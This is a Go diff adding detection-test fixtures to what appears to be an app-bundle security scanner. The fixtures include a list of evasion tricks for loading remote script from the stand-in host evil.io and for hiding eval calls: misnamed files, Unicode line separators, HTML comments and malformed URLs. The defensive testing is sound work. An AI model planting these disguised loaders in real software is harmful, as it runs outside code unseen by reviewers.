@@ -58,7 +58,7 @@ func (e edit) change() Change {
 
 // WebChanges are updates that open the app to others, or run code that came from elsewhere.
 func WebChanges() []Change {
-	return changes(slices.Concat(remoteScripts, policies, configurations, code))
+	return changes(slices.Concat(remoteScripts, disguises, policies, configurations, code))
 }
 
 const html, js = "index.html", "assets/app.js"
@@ -89,6 +89,36 @@ var remoteScripts = []edit{
 	{"script element", rules.CheckRemoteScript, js, "", `const s=document.createElement("script");s.src="https://evil.io/x.js?v=1";`},
 	{"script element by attribute", rules.CheckRemoteScript, js, "", `s.setAttribute("src","https://evil.io/gtag/js?id=1");`},
 	{"script of another name", rules.CheckRemoteScript, "assets/data.bin", "", `import("https://evil.io/x.js")`},
+}
+
+// disguises are what scanners and webviews are apt to read differently.
+var disguises = []edit{
+	{"script that starts as HTML", rules.CheckRemoteScript, "assets/w.js", "", "<!-- x\nimportScripts('https://evil.io/w.js')"},
+	{"script of any name that starts as HTML", rules.CheckRemoteScript, "assets/w.dat", "", "<!-- x\nimportScripts('https://evil.io/w.js')"},
+	{"script named page", rules.CheckRemoteScript, "assets/w.html", "", "importScripts('https://evil.io/w.js')"},
+	{"script named prose", rules.CheckRemoteScript, "assets/w.txt", "", "importScripts('https://evil.io/w.js')"},
+	{"script named table", rules.CheckRemoteScript, "assets/w.csv", "", "import('https://evil.io/w.js')"},
+	{"script like a source map", rules.CheckRemoteScript, "assets/w.js", "", `{"version","mappings","sources"}` + "\nimport('https://evil.io/w.js')"},
+	{"behind a carriage return", rules.CheckEval, js, "", "//\reval(n)"},
+	{"behind U+2028", rules.CheckEval, js, "", "//\u2028eval(n)"},
+	{"behind U+2029", rules.CheckRemoteScript, js, "", "//\u2029import('https://evil.io')"},
+	{"behind a comment of HTML", rules.CheckRemoteScript, js, "", "\n<!-- `\nimport('https://evil.io')\n--> `"},
+	{"behind a division of an object", rules.CheckRemoteScript, js, "", "x={}/1;y=`/;`;import('https://evil.io');z=/`/"},
+	{"behind a regexp at the start", rules.CheckEval, js, "", "debugger\n/`/;eval(n)"},
+	{"behind a spread regexp", rules.CheckEval, js, "", "f(...typeof/`/);eval(n)"},
+	{"behind a prefix", rules.CheckEval, js, "", "x\n++/`/.lastIndex;eval(n)"},
+	{"URL with a tab", rules.CheckRemoteScript, html, "</body>", "<script src='ht\ttps://evil.io/a.js'></script></body>"},
+	{"URL with line ends", rules.CheckRemoteScript, html, "</body>", "<script src='\nhttps:/\n/evil.io/a.js'></script></body>"},
+	{"URL with a control character", rules.CheckRemoteScript, js, "", `import("\x01https://evil.io")`},
+	{"URL with backslashes", rules.CheckRemoteScript, html, "</body>", `<script src='https:\\evil.io/a.js'></script></body>`},
+	{"URL of slash and backslash", rules.CheckRemoteScript, html, "</body>", `<script src='/\evil.io/a.js'></script></body>`},
+	{"URL with no slash", rules.CheckRemoteScript, html, "</body>", `<script src='https:evil.io/a.js'></script></body>`},
+	{"URL with three slashes", rules.CheckRemoteScript, html, "</body>", `<script src='https:///evil.io/a.js'></script></body>`},
+	{"script of data", rules.CheckRemoteScript, html, "</body>", `<script src='data:text/javascript,x()'></script></body>`},
+	{"import of data", rules.CheckRemoteScript, js, "", `import("data:text/javascript,x()")`},
+	{"source without the name of a script", rules.CheckRemoteScript, js, "", `s.src="https://evil.io/x"`},
+	{"eval, optional", rules.CheckEval, js, "", `eval?.(n)`},
+	{"eval by its name", rules.CheckEval, js, "", `window['eval'](n)`},
 }
 
 // policies let more through than before.
@@ -164,7 +194,7 @@ func HonestChanges() []Change {
 		{"the device", "", js, "", `x="http://localhost:3000";`},
 		{"a test URL", "", js, "", `new URL("http://a/b");new URL("http://example.com");`},
 		{"WebAssembly", "", "assets/a.wasm", "", "\x00asm\x01\x00\x00\x00"},
-		{"prose", "", "3rdpartylicenses.txt", "", `don't "http://www.apache.org/licenses/" eval(x)`},
+		{"prose", "", "3rdpartylicenses.txt", "", `don't "http://www.apache.org/licenses/" or evaluate`},
 		{"a regexp of a URL", "", js, "", `/^http:\/\/evil\.io/.test(x);`},
 		{"navigation taken back", "", "capacitor.config.json", `"pay.shop.io"`, ""},
 		{"a worker of its own", "", js, "", `new Worker(new URL("worker.js",import.meta.url));`},
